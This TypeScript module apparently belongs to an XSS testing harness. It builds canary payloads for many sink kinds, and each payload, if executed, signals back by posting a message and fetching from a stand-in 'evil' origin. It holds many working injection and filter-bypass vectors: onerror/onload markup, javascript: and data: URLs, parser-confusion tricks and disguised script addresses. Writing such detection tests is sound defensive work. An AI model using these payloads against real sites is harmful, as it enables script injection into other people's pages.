/**
 * What the values are: each would tell of itself if it became code (a message to the topmost page, a request for `/ran/`),
 * markup or an address (a request for `/asked/`).
 */
import type { Kind } from './way.ts';

export interface Canary {
  /** origin of a server that nobody approved, which hears whatever gets out */
  evil: string;
  /** origin of an approved partner, which serves a script that nobody approved at `/canary/<number>.js` */
  partner: string;
}

/**
 * Code that tells: an expression without spaces, quotes and signs that end something in HTML, so that it stands for itself in
 * an unquoted attribute, in either kind of string, in a URL and on a line of its own.
 */
export function code(number: number, { evil }: Canary): string {
  return `(top.postMessage(\`canary${number}\`,\`*\`),fetch(\`${evil}/ran/${number}\`,{mode:\`no-cors\`}))`;
}

type Write = (code: string, asked: string, number: number, canary: Canary) => string;

/** By what a sink makes of a value: the first is what the control tries. */
const VALUES: Record<Kind, readonly Write[]> = {
  code: [
    (code) => code,
    // code, address of code, and markup at once
    (code, asked) => `javascript:${code}//<img src=${asked} onerror=${code}>`,
    (code) => `"use strict";${code}\n//\u2028`,
    (code) => `<!--\n${code}//-->`,
  ],
  'code in a string': [
    (code) => `'-${code}-'`,
    (code) => `\\'-${code}//'-${code}-'`,
    (code) => `'+${code}+'\u2028//`,
    (code) => `\n'-${code}-'`,
  ],
  markup: [
    (code, asked) => `<img src=${asked} onerror=${code}>`,
    (code) => `<svg onload=${code}></svg><details open ontoggle=${code}>x</details>`,
    (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    (code) => `<iframe src="javascript:${code}"></iframe>`,
    (code, asked) =>
      `<style>@import "${asked}";*{background:url(${asked})}</style><video><source onerror=${code}></video>`,
    (code) =>
      `<svg><style><img src=x: onerror=${code}></style></svg><math><mtext><mglyph><style><img src=x: onerror=${code}>`,
    (code) => `<noscript><p title="</noscript><img src=x: onerror=${code}>"></noscript>`,
    (code) => `<input autofocus onfocus=${code}><body onload=${code}><marquee onstart=${code}>`,
  ],
  'script element': [
    (code) => `<script>${code}</script>`,
    (code) => `<svg><script>${code}</script></svg>`,
    (_, _asked, number, { evil }) => `<script src=${evil}/canary/${number}.js></script>`,
    (_, _asked, number, { partner }) => `<script src=${partner}/canary/${number}.js></script>`,
    (code) => `</textarea></title></style><SCRIPT/x>${code}</SCRIPT >`,
  ],
  attribute: [
    (code) => `"><img src=x: onerror=${code}>`,
    (code) => `"><svg/onload=${code}>`,
    (code, asked) => `" onerror="${code}" onload="${code}" srcset="${asked}" x="`,
  ],
  'script address': [
    (_, _asked, number, { partner }) => `${partner}/canary/${number}.js`,
    (_, _asked, number, { evil }) => `${evil}/canary/${number}.js`,
    (code) => `data:text/javascript,${code}`,
    (_, _asked, number, { partner }) => `${partner}/lib.js/../canary/${number}.js?/lib.js`,
    (_, _asked, number, { partner }) => `${partner}\\canary\\${number}.js`,
  ],
  'code address': [
    (code) => `javascript:${code}`,
    (code) => `\u0001 jAvA\tsc\nript:${code}`,
    (code) => `javascript://%0a${code}`,
    (code) => `data:text/html,<script>${code}</script>`,
  ],
  'document address': [
    (code) => `data:text/html,<script>${code}</script>`,
    (code) => `javascript:${code}`,
    (_, asked) => asked,
  ],
  address: [
    (_, asked) => asked,
    (_, asked) => asked.replace(/^https?:/, ''),
    (_, asked) => asked.replace(/^https?:\/\//, '\\\\').replaceAll('/', '\\'),
    (_, asked) => `\t${asked}`,
  ],
  style: [
    (_, asked) => `url(${asked})`,
    (_, asked) => `red;background:url("${asked}")`,
    (_, asked) => `\\75rl(${asked})`,
  ],
};

export const KINDS = Object.keys(VALUES) as Kind[];

/** Values that would do harm where one becomes what its kind says, the surest first. */
export function hostileFor(kind: Kind, number: number, canary: Canary): string[] {
  const asked = `${canary.evil}/asked/${number}`;
  return VALUES[kind].map((write) => write(code(number, canary), asked, number, canary));
}
